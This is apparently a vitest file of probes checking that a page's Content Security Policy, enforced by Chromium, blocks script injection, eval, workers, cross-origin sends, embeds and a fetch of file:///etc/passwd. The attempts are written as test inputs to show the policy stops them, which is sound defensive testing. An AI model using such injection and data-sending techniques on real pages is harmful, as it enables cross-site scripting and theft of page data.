import { expect } from 'vitest'
import type { Probe } from './probed-window'

/* What the page's own policy keeps from it, with the shell's guard of requests taken away: Chromium alone has to hold. */

declare const violation: (act: () => unknown) => Promise<string>
/** import(), as the page's own code has it. */
declare const bring: (address: string) => Promise<unknown>

/** One that the named part of the policy must be in the way of. `act` runs in the page. */
function blocked(name: string, part: string, act: (elsewhere: string) => Promise<string>): Probe {
  return {
    name,
    without: 'the shell’s guard of requests',
    run: async ({ page, elsewhere }) => expect(await page.evaluate(act, elsewhere)).toBe(part),
  }
}

const running: readonly Probe[] = [
  blocked('a script written into the page', 'script-src-elem', () =>
    violation(() => {
      const script = document.createElement('script')
      script.textContent = 'document.title = "ran"'
      document.body.append(script)
    }),
  ),
  blocked('a handler written into an element', 'script-src-attr', () =>
    violation(() => {
      document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="document.title = \'ran\'">')
    }),
  ),
  blocked('a javascript: address', 'script-src-elem', () =>
    violation(() => {
      const link = document.createElement('a')
      link.href = 'javascript:document.title="ran"'
      document.body.append(link)
      link.click()
    }),
  ),
  // biome-ignore lint/security/noGlobalEval: that it does not work is what is shown
  blocked('eval', 'script-src', () => violation(() => globalThis.eval('document.title = "ran"'))),
  blocked('new Function', 'script-src', () => violation(() => new Function('document.title = "ran"')())),
  blocked('setTimeout with text', 'script-src', () =>
    violation(() => setTimeout('document.title = "ran"' as unknown as () => void)),
  ),
  blocked('WebAssembly', 'script-src', () =>
    violation(() => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
  ),
  blocked('a script from another machine', 'script-src-elem', elsewhere =>
    violation(() => {
      const script = document.createElement('script')
      script.src = `${elsewhere}/script.js`
      document.body.append(script)
    }),
  ),
  blocked('a module from another machine', 'script-src-elem', elsewhere =>
    violation(() => bring(`${elsewhere}/module.js`)),
  ),
  blocked('a module in a data: address', 'script-src-elem', () =>
    violation(() => bring('data:text/javascript,document.title="ran"')),
  ),
  blocked('a worker made of text', 'worker-src', () =>
    violation(() => new Worker(URL.createObjectURL(new Blob(['close()'], { type: 'text/javascript' })))),
  ),
  blocked('a shared worker made of text', 'worker-src', () =>
    violation(() => new SharedWorker('data:text/javascript,close()')),
  ),
]

const sending: readonly Probe[] = [
  blocked('fetch', 'connect-src', elsewhere => violation(() => fetch(`${elsewhere}/fetch`))),
  blocked('XMLHttpRequest', 'connect-src', elsewhere =>
    violation(() => {
      const request = new XMLHttpRequest()
      request.open('POST', `${elsewhere}/xhr`)
      request.send('what the page knows')
    }),
  ),
  blocked('WebSocket', 'connect-src', elsewhere =>
    violation(() => new WebSocket(elsewhere.replace('http', 'ws'))),
  ),
  blocked('EventSource', 'connect-src', elsewhere => violation(() => new EventSource(`${elsewhere}/events`))),
  blocked('sendBeacon', 'connect-src', elsewhere =>
    violation(() => navigator.sendBeacon(`${elsewhere}/beacon`, 'what the page knows')),
  ),
  blocked('WebTransport', 'connect-src', elsewhere =>
    violation(() => new WebTransport(elsewhere.replace('http', 'https')).ready),
  ),
  blocked('the ping of a link', 'connect-src', elsewhere =>
    violation(() => {
      const link = document.createElement('a')
      link.href = '#here'
      link.ping = `${elsewhere}/ping`
      document.body.append(link)
      link.click()
    }),
  ),
  blocked('a form sent away', 'form-action', elsewhere =>
    violation(() => {
      const form = document.createElement('form')
      form.method = 'post'
      form.action = `${elsewhere}/form`
      document.body.append(form)
      form.submit()
    }),
  ),
  blocked('reading a file: address', 'connect-src', () => violation(() => fetch('file:///etc/passwd'))),
]

const embedding: readonly Probe[] = [
  blocked('an image from another machine', 'img-src', elsewhere =>
    violation(() => {
      new Image().src = `${elsewhere}/image.png`
    }),
  ),
  blocked('a background image from another machine', 'img-src', elsewhere =>
    violation(() => {
      document.body.style.backgroundImage = `url(${elsewhere}/background.png)`
    }),
  ),
  blocked('a font from another machine', 'font-src', elsewhere =>
    violation(() => new FontFace('Elsewhere', `url(${elsewhere}/font.woff2)`).load()),
  ),
  blocked('a film from another machine', 'media-src', elsewhere =>
    violation(() => {
      const video = document.createElement('video')
      video.src = `${elsewhere}/film.mp4`
      document.body.append(video)
    }),
  ),
  blocked('a style sheet from another machine', 'style-src-elem', elsewhere =>
    violation(() => {
      const link = document.createElement('link')
      link.rel = 'stylesheet'
      link.href = `${elsewhere}/style.css`
      document.head.append(link)
    }),
  ),
  blocked('a style written into the page', 'style-src-elem', () =>
    violation(() => {
      const style = document.createElement('style')
      style.textContent = 'main { display: none }'
      document.head.append(style)
    }),
  ),
  blocked('a frame with another machine’s page', 'frame-src', elsewhere =>
    violation(() => {
      const frame = document.createElement('iframe')
      frame.src = `${elsewhere}/frame`
      document.body.append(frame)
    }),
  ),
  blocked('a frame with a page in its address', 'frame-src', () =>
    violation(() => {
      const frame = document.createElement('iframe')
      frame.src = 'data:text/html,<script>parent.document.title="ran"</script>'
      document.body.append(frame)
    }),
  ),
  blocked('an <object>', 'object-src', elsewhere =>
    violation(() => {
      const object = document.createElement('object')
      object.data = `${elsewhere}/object`
      document.body.append(object)
    }),
  ),
  blocked('an <embed>', 'object-src', elsewhere =>
    violation(() => {
      const embed = document.createElement('embed')
      embed.src = `${elsewhere}/embed`
      document.body.append(embed)
    }),
  ),
  blocked('a <base> that turns every address away', 'base-uri', elsewhere =>
    violation(() => {
      const base = document.createElement('base')
      base.href = `${elsewhere}/`
      document.head.append(base)
    }),
  ),
]

export const policyProbes = [...running, ...sending, ...embedding]
